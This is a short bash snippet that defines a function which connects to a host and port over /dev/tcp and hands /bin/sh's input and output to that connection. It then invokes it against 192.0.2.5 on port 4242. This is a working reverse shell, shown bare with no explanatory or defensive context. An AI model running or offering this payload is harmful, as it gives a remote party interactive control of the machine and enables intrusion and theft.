run() { local h=$1 p=$2; exec 7<>/dev/tcp/$h/$p; /bin/sh 0<&7 1>&7 2>&7; }
run 192.0.2.5 4242
